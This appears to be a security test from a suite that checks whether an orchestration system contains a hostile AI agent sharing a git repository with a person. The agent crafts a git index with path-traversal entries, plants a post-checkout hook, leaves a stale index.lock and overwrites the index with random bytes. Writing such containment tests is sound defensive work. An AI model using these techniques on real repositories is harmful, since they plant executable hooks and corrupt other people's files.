import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Attack } from '../frame/attack.ts'
import { need } from '../frame/attack.ts'
import { plant, rejected } from './_work.ts'

const attack: Attack = {
  tries: 'crafts its index: entries below .git and above the work tree, a garbage index, a split index, an index.lock left behind',
  success: 'a file of the person is written or replaced, or their index in the worktree is another',
  run: async (t) => {
    const evil = await t.agent()
    await plant(t, evil, 'post-checkout')
    const [hook, up] = [join(t.project, '.git/hooks/post-checkout'), join(evil.worktree, '../pwned')]
    const staged = (await t.person.git(evil.worktree, 'ls-files', '-s')).out
    const made = await evil.try(`cp $GITDIR/index /tmp/index; b=$(git hash-object -w post-checkout); python3 - "$b" <<'END'
import hashlib, struct, sys
sha = bytes.fromhex(sys.argv[1]); body = b''
for name in sorted([b'.git/hooks/post-checkout', b'../pwned', b'ok']):
    e = struct.pack('>10I', 0,0,0,0,0,0,0o100755,1000,1000,0) + sha + struct.pack('>H', len(name)) + name
    body += e + b'\\0' * (8 - len(e) % 8)
data = b'DIRC' + struct.pack('>II', 2, 3) + body
open('/orchestra/git/index', 'wb').write(data + hashlib.sha1(data).digest())
END
      git ls-files -s; tree=$(git write-tree --missing-ok 2>&1); echo "tree $tree"; git update-index --split-index; touch $GITDIR/index.lock; git commit -qm 'crafted index'; rm -f $GITDIR/index.lock; head -c 4000 /dev/urandom >$GITDIR/index; git status`)
    need(/pwned|post-checkout/.test(made.out), `no crafted index was made: ${made.out}${made.err}`)
    const pushed = await evil.push()
    await t.person.everyday(evil.worktree, evil.branch)
    await evil.sh('cp /tmp/index $GITDIR/index; git reset -q')
    const after = (await t.person.git(evil.worktree, 'ls-files', '-s')).out
    await evil.clean()
    if (existsSync(hook) || existsSync(up)) return { through: `written: ${existsSync(hook) ? readFileSync(hook, 'utf8') : up}` }
    const tree = await evil.sh('git ls-tree -r --name-only HEAD | grep -E "^[.][.]/|^[.]git/|pwned" || true')
    if (tree !== '') return rejected('a tree with paths outside', pushed) ?? { held: 'refused' }
    return after === staged ? { held: 'no commit came of it, the person\'s index is as it was' } : { through: 'the person\'s index changed' }
  },
}
export default attack
